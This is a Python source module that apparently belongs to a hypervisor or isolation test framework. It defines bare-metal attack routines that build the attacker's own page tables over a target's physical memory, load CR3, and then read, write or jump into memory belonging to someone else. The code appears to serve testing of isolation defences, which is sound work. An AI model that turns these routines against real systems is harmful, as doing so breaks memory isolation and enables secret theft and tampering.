"""Attacks on memory that is not the attacker's.

The attacker makes page tables of its own that show the whole GiB of physical memory that it is
after at its own address, which nothing in its guest-physical memory can prevent.
"""

from __future__ import annotations

from questv.arch.x86.paging import (
    ENTRIES,
    HUGE_PAGE_SIZE,
    LARGE,
    LARGE_PAGE_SIZE,
    PAGE_SIZE,
    PRESENT,
    WRITABLE,
)
from questv.attacks.orders import Orders
from questv.metal.lang import Array, Ptr, Volatile, addr, asm, metal, static, u64

_TABLE = PRESENT | WRITABLE

# Three tables on pages of their own, somewhere in these four.
tables: Array[u64, ENTRIES * 4] = static(export="attack_tables")


@metal
def _see_everything(orders: Orders) -> None:
    """Load page tables that show the target's GiB, and the kernel's own program as before."""
    place = orders.target // HUGE_PAGE_SIZE
    skip = (u64(PAGE_SIZE) - addr(tables) % PAGE_SIZE) % PAGE_SIZE
    own = Ptr[u64](addr(tables) + skip)
    physical = orders.tables + skip
    own[0] = physical + PAGE_SIZE | _TABLE
    own[ENTRIES + place] = physical + 2 * PAGE_SIZE | _TABLE
    own[ENTRIES + 1] = orders.kernel_entry
    for i in range(u64(ENTRIES)):
        own[2 * ENTRIES + i] = place * HUGE_PAGE_SIZE + i * LARGE_PAGE_SIZE | _TABLE | LARGE
    asm("mov cr3, $0", None, "r", physical)


@metal
def read(orders: Orders) -> None:
    """Learn another's secrets: read physical memory through page tables of one's own."""
    target = orders.target
    _see_everything(orders)
    Ptr[Volatile[u64]](target)[0].read()


@metal
def write(orders: Orders) -> None:
    """Change another's state: write physical memory through page tables of one's own."""
    target = orders.target
    _see_everything(orders)
    Ptr[Volatile[u64]](target)[0].write(0x6F77_6E65_6421)


@metal
def execute(orders: Orders) -> None:
    """Borrow another's code: jump to physical memory through page tables of one's own."""
    target = orders.target
    _see_everything(orders)
    asm("jmp $0", None, "r", target)
